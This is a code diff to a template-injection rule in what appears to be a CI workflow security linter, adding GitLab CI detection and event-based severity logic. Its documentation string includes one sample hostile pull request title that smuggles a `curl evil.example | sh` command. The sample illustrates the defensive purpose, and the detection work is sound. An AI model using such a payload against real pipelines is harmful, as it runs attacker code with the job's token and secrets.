@@ -1,3 +1,5 @@
+import { UNTRUSTED_FIELDS } from "../../data/untrusted-contexts.ts";
+import { stepMayRunFor } from "../../expressions/may-run.ts";
 import { positionsOf } from "../../expressions/scalar-positions.ts";
 import type { Severity } from "../../finding.ts";
 import type { StepPlace } from "../../model/workflow.ts";
@@ -5,6 +7,7 @@ import type { Span } from "../../parse/line-index.ts";
 import { defineRule, type Hit } from "../../rule.ts";
 import { findInjections, type Injection } from "./template-injection/find-injections.ts";
 import { fixStep } from "./template-injection/fix.ts";
+import { gitlabInjections } from "./template-injection/gitlab.ts";
 import { byLevel, type Level } from "./template-injection/levels.ts";
 
 const REPORTED: ReadonlySet<Level> = new Set<Level>(["attacker", "merged", "called", "caller"]);
@@ -18,10 +21,10 @@ export const templateInjection = defineRule({
     title: "Untrusted text becomes code",
     fixClass: "safe",
     docs: {
-      what: "A `${{ }}` in a script (`run`, the `script` of `actions/github-script`, and other inputs that actions run as code) whose text a stranger or the caller decides: titles, texts and branch names of issues, pull requests, comments, reviews, discussions, commits and wiki pages, `inputs`, payloads, and what `env`, `matrix`, job outputs and step outputs of the same file make of them. One finding per step.",
+      what: "A `${{ }}` in a script (`run`, the `script` of `actions/github-script`, and other inputs that actions run as code) whose text a stranger or the caller decides: titles, texts and branch names of issues, pull requests, comments, reviews, discussions, commits and wiki pages, `inputs`, payloads, and what `env`, `matrix`, job outputs and step outputs of the same file make of them. One finding per step. In GitLab CI: `$[[ inputs.x | expand_vars ]]` in a script, and a commit message, merge request title or branch name inside `eval` or `sh -c`; one finding per job.",
       why: "GitHub pastes the text into the script before the shell starts, so a pull request with the title `\"; curl evil.example | sh; \"` runs that command with the job's token and secrets. Critical where an event of this workflow lets a stranger set the text; high where a member has to merge it first (commit messages on `push`) or where the event is the caller's; medium for inputs, which callers decide, and for jobs that already ask who the author is.",
       notReported:
-        "Values of a fixed alphabet (numbers, commit ids, login and repository names, booleans). Results of tests such as `contains(…)` and `a == b`. Inputs of type boolean, number, choice or environment. Fields that no event of this workflow fills. Variables read by the script itself (`$TITLE`), because they are data. `env:`, `with:` and `if:` outside code. Names of branches and tags that only members push, outputs and variables of unknown origin, and fixed values: the strict profile has those. Secrets, which have other rules.",
+        "Values of a fixed alphabet (numbers, commit ids, login and repository names, booleans). Results of tests such as `contains(…)` and `a == b`. Inputs of type boolean, number, choice or environment. Fields that no event of this workflow fills. Variables read by the script itself (`$TITLE`), because they are data. `env:`, `with:` and `if:` outside code. Names of branches and tags that only members push, outputs and variables of unknown origin, and fixed values: the strict profile has those. Secrets, which have other rules. In GitLab CI a quoted `$CI_COMMIT_MESSAGE` outside `eval` and `sh -c`, plain `$[[ inputs.x ]]`, and inputs that are numbers, booleans or one of a list.",
       fix: "Put the expression into `env:` of the step and read the variable in the script, in double quotes. The fix does so for bash, sh, PowerShell, Python and JavaScript, uses a variable that is already there, and offers nothing inside single quotes, here-documents with a quoted marker, `cmd`, or arguments that a program runs again (`eval`, `bash -c`, `ssh`).",
       example: {
         before: 'steps:\n  - run: echo "${{ github.event.issue.title }}"\n',
@@ -35,6 +38,7 @@ export const templateInjection = defineRule({
       const found = findInjections(place, context.strict ? STRICT : REPORTED);
       if (found.length > 0) yield toHit(place, found);
     }
+    yield* gitlabInjections(context);
   },
 });
 
@@ -69,14 +73,18 @@ const SEVERITY: Readonly<Record<Level, Severity>> = {
   fixed: "info",
 };
 
-function severityOf({ job, step }: StepPlace, level: Level): Severity {
-  const conditions = `${job?.if?.value ?? ""}\n${step.if?.value ?? ""}`;
-  return level === "attacker" && ASKS_AUTHOR.test(conditions) ? "medium" : SEVERITY[level];
+function severityOf(place: StepPlace, level: Level): Severity {
+  return level === "attacker" && asksAuthor(place) ? "medium" : SEVERITY[level];
 }
 
-/** The job runs only for people who can push anyway. */
-const ASKS_AUTHOR =
-  /head\.repo\.full_name\s*==\s*github\.repository|github\.repository\s*==\s*github\.event\.pull_request\.head\.repo\.full_name|!\s*github\.event\.pull_request\.head\.repo\.fork|head\.repo\.fork\s*==\s*false|author_association\s*==\s*'(?:OWNER|MEMBER|COLLABORATOR)'|contains\(\s*fromJSON\('\[(?:"(?:OWNER|MEMBER|COLLABORATOR)",?\s*)+\]'\),\s*github\.event\.[\w.]+\.author_association/;
+/** The step runs only for people who can push anyway, under each event that a stranger can start. */
+function asksAuthor({ document, job, step }: StepPlace): boolean {
+  if (document.kind === "action" || job === null) return false;
+  const open = document.triggers.map(({ event }) => event).filter((event) => STRANGERS_EVENTS.has(event));
+  return !open.some((event) => stepMayRunFor(document, { job, step }, event));
+}
+
+const STRANGERS_EVENTS: ReadonlySet<string> = new Set(UNTRUSTED_FIELDS.flatMap(({ events }) => events));
 
 function messageOf(source: string, { taint }: Injection): string {
   const expression = `\`${source.length > 80 ? "${{ … }}" : source.replaceAll(/\s+/g, " ")}\``;
